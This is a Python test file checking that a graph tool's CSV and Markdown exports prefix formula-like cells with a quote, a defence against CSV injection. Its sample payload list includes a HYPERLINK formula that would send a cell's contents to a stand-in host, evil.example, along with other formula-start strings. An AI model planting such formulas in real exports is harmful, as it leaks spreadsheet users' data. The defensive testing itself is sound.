"""CSV (and Markdown tables) that a spreadsheet opens as text: no cell starts a formula (OWASP CSV injection)."""
import csv
import io

import pytest

from graph.cli import main
from graph.csv_safe import FORMULA_STARTS, safe_cell, write_csv
from graph.query.formats import render
from graph.query.run import Result

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed",
           "\rReturned"]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value,expected", [
    *[(v, "'" + v) for v in HOSTILE],
    ("Ana Ruiz", "Ana Ruiz"),
    ("a=b", "a=b"),
    ("", ""),
    ("'already quoted", "'already quoted"),
    (3, 3),
    (None, None),
])
def test_safe_cell_prefixes_only_text_that_starts_like_a_formula(value, expected):
    assert safe_cell(value) == expected


def test_write_csv_keeps_quoting_and_makes_every_cell_safe():
    text = write_csv(["=name", "note"], [[v, 'says "hi", twice'] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=name", "note"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[1] == 'says "hi", twice' for r in rows[1:])


def test_query_csv_and_markdown_output_carry_no_formula():
    result = Result.of_strings(["name", "n"], [[v, "1"] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(render(result, "csv"))))
    assert rows[1:] == [["'" + v, "1"] for v in HOSTILE]
    cells = [line.split(" | ")[0].removeprefix("| ") for line in render(result, "md").splitlines()[2:]]
    assert cells and not any(dangerous(c) for c in cells)
    assert cells[0] == "'" + HOSTILE[0]


@pytest.fixture
def hostile_build(tmp_path, tiny_dataset):
    """A built folder (files and store) whose names and evidence start like spreadsheet formulas."""
    from rdflib import Literal

    from graph.build.oxstore import STORE_DIR, write_store
    from graph.build.store import write

    swaps = {"Ana Ruiz": HOSTILE[0], "Harbour Council": "+Harbour Council", "Bob Lee": "@Bob Lee"}
    for g in list(tiny_dataset.graphs()):
        for s, p, o in list(g):
            if isinstance(o, Literal) and any(k in str(o) for k in swaps):
                text = str(o)
                for old, new in swaps.items():
                    text = text.replace(old, new)
                g.remove((s, p, o))
                g.add((s, p, Literal(text, lang=o.language, datatype=o.datatype)))
    paths = write(tiny_dataset, tmp_path)
    write_store(paths["trig"], tmp_path / STORE_DIR)
    return tmp_path


def test_export_csv_files_carry_no_formula(hostile_build, capsys):
    target = hostile_build / "tables"
    assert main(["export", "--format", "csv", "--out", str(hostile_build), "--to", str(target)]) == 0
    capsys.readouterr()
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        with (target / name).open(encoding="utf-8", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "'" + HOSTILE[0] in cells and "'+Harbour Council" in cells
    assert any(c.startswith("'" + HOSTILE[0] + ", Director of the +Harbour Council") for c in cells)


def test_query_csv_command_prints_no_formula(hostile_build, capsys):
    query = "SELECT ?name WHERE { ?p a schema:Person ; schema:name ?name } ORDER BY ?name"
    rq = hostile_build / "names.rq"
    rq.write_text(query, encoding="utf-8")
    assert main(["query", str(rq), "--format", "csv", "--out", str(hostile_build)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert ["'" + HOSTILE[0]] in rows and not any(dangerous(c) for r in rows for c in r)
